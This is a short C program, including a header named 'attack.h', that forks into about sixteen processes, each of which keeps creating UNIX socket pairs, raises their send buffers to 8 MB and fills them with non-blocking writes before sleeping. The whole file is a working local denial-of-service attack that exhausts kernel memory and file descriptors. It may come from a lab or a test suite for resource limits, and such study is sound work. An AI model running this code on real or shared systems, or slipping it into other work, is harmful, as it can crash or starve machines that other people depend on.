#include "attack.h"
#include <sys/socket.h>

int	main(void)
{
	static char	block[1 << 16];
	int			size = 8 << 20;
	int			ends[2];

	for (int i = 0; i < 15; i++)
		if (fork() == 0)
			break;
	while (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0)
	{
		setsockopt(ends[1], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
		fcntl(ends[1], F_SETFL, O_NONBLOCK);
		while (write(ends[1], block, sizeof block) > 0)
			;
	}
	rest(60000);
}
